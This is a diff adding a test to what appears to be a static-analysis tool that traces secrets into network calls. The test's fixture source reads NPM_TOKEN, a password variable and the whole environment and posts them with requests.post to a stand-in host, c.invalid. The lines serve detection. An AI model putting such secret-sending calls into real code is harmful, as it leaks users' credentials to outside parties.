@@ -101,3 +101,20 @@ def test_columns_are_characters_not_bytes() -> None:
     source = "s = 'é'; os.system('x')\n"
     (call,) = [c for c in _facts(source).calls if c.callee == "os.system"]
     assert source[call.span.col : call.span.end] == "os.system('x')"
+
+
+def test_sending_calls_record_the_secrets_in_their_arguments() -> None:
+    from watcher.parse import parse_source
+
+    facts = parse_source(
+        "a.py",
+        "import os, requests\ncred = os.environ['NPM_TOKEN']\n"
+        "requests.post('https://c.invalid', json={'v': cred})\n"
+        "requests.post('https://c.invalid', data=str(dict(os.environ)), auth=os.getenv('PW'))\n"
+        "requests.get('https://api.invalid', params={'q': 'x'})\n",
+    )
+    assert facts is not None
+    by_line = {
+        c.span.line: set(c.arg_sources) for c in facts.calls if c.callee.startswith("requests")
+    }
+    assert by_line == {3: {"env:NPM_TOKEN"}, 4: {"env:*", "env:PW"}, 5: set()}
